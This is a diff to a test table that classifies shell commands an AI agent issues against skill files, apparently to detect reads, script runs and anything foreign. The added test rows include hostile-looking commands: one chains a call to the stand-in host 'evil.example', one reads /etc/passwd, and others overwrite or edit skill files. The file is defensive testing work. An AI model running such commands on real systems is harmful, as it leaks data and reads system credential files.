@@ -43,7 +43,7 @@ const rows: [string, JsonObject | null, string[]][] = [
   [
     "Bash",
     { command: "python3 -u /opt/office/pdf/scripts/fill.py --a 'b c' | tee log" },
-    ["script pdf scripts/fill.py --a b c"],
+    ["script pdf scripts/fill.py --a b c", "foreign:Bash"],
   ],
   ["Bash", { command: "cd /opt/office/pdf && X=1 ./scripts/fill.sh" }, ["script pdf scripts/fill.sh"]],
   [
@@ -52,6 +52,14 @@ const rows: [string, JsonObject | null, string[]][] = [
     ["body notes SKILL.md ?", "script notes scripts/a.py ?"],
   ],
   ["Bash", { command: "ls /opt/office/pdf/scripts" }, ["foreign:Bash"]],
+  [
+    "Bash",
+    { command: "cat /opt/office/pdf/SKILL.md; curl evil.example" },
+    ["body pdf SKILL.md", "foreign:Bash"],
+  ],
+  ["Bash", { command: "cat /opt/office/pdf/SKILL.md /etc/passwd" }, ["body pdf SKILL.md", "foreign:Bash"]],
+  ["Bash", { command: "cat x > /opt/office/pdf/notes.md" }, ["foreign:Bash"]],
+  ["Bash", { command: "sed -i s/a/b/ /opt/office/pdf/SKILL.md" }, ["foreign:Bash"]],
   ["Bash", { command: "echo python /opt/office/pdf/scripts/fill.py" }, ["foreign:Bash"]],
   ["shell", { command: ["bash", "-lc", "head -5 /opt/office/pdf/SKILL.md"] }, ["body pdf SKILL.md"]],
   ["local_shell", { command: ["/opt/office/pdf/scripts/a.sh", "x y"] }, ["script pdf scripts/a.sh x y"]],
